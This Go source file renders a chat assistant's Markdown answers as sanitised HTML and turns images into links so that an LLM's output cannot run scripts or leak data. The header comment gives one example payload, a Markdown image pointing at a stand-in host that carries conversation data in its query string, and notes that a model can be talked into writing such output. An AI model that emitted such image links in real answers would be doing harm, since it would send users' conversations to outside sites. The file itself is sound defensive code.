// Answers are Markdown. They are turned into HTML here, on the server, and sanitised: an LLM
// can be talked into writing anything, including <script>, so its HTML is never trusted.
// Nor are its images: ![x](https://evil.example/leak?d=...) would make the browser send the
// conversation to that site as soon as the answer shows, so an image becomes a link instead.

package chat

import (
	"bytes"
	"html/template"

	"github.com/microcosm-cc/bluemonday"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer"
	"github.com/yuin/goldmark/renderer/html"
	"github.com/yuin/goldmark/util"
)

// Markdown renders answers to safe HTML.
type Markdown struct {
	converter goldmark.Markdown
	policy    *bluemonday.Policy
}

// NewMarkdown returns a renderer for GitHub-flavoured Markdown (tables, task lists,
// strikethrough, bare links) whose output keeps only what bluemonday's policy for user
// content allows: no scripts, styles, forms, frames or event handlers, only safe URLs.
func NewMarkdown() *Markdown {
	policy := bluemonday.UGCPolicy()
	// Links open in a new tab, and the other site learns nothing about ours: it can neither
	// script our page (noopener), nor see where the visitor came from (noreferrer), nor gain
	// search ranking from us (nofollow).
	policy.RequireNoFollowOnLinks(true)
	policy.RequireNoReferrerOnLinks(true)
	policy.AddTargetBlankToFullyQualifiedLinks(true)
	return &Markdown{
		// goldmark leaves raw HTML in the Markdown out by default (so no <img> written as
		// HTML), and imagesAsLinks renders Markdown images; the policy is a second wall.
		converter: goldmark.New(
			goldmark.WithExtensions(extension.GFM),
			goldmark.WithRendererOptions(renderer.WithNodeRenderers(
				util.Prioritized(imagesAsLinks{}, 100), // before goldmark's own (1000)
			)),
		),
		policy: policy,
	}
}

// Render returns source as sanitised HTML, ready for a template.
func (m *Markdown) Render(source string) (template.HTML, error) {
	var rendered bytes.Buffer
	if err := m.converter.Convert([]byte(source), &rendered); err != nil {
		return "", err
	}
	// The one place where the app trusts HTML: it has just been sanitised.
	return template.HTML(m.policy.SanitizeBytes(rendered.Bytes())), nil
}

// imagesAsLinks renders a Markdown image, ![alt](url), as a link to it showing its alt text:
// the visitor sees where it points and decides whether to open it, and nothing is fetched
// while the answer is shown. Inside a link it leaves only the alt text (no link in a link).
type imagesAsLinks struct{}

func (imagesAsLinks) RegisterFuncs(reg renderer.NodeRendererFuncRegisterer) {
	reg.Register(ast.KindImage, renderImageAsLink)
}

func renderImageAsLink(w util.BufWriter, source []byte, node ast.Node, entering bool) (ast.WalkStatus, error) {
	image := node.(*ast.Image)
	if insideLink(image) {
		return ast.WalkContinue, nil // the alt text, as plain text, in the outer link
	}
	destination := util.URLEscape(image.Destination, true)
	if !entering {
		if !image.HasChildren() { // no alt text: show the address itself
			w.Write(util.EscapeHTML(destination))
		}
		w.WriteString("</a>")
		return ast.WalkContinue, nil
	}
	w.WriteString(`<a href="`)
	if !html.IsDangerousURL(destination) { // javascript: and the like: a link to nowhere
		w.Write(util.EscapeHTML(destination))
	}
	w.WriteString(`">`)
	return ast.WalkContinue, nil // the alt text follows, rendered as text
}

// insideLink reports whether node sits in a link, [like ![this](x.png)](y).
func insideLink(node ast.Node) bool {
	for parent := node.Parent(); parent != nil; parent = parent.Parent() {
		if parent.Kind() == ast.KindLink || parent.Kind() == ast.KindAutoLink {
			return true
		}
	}
	return false
}
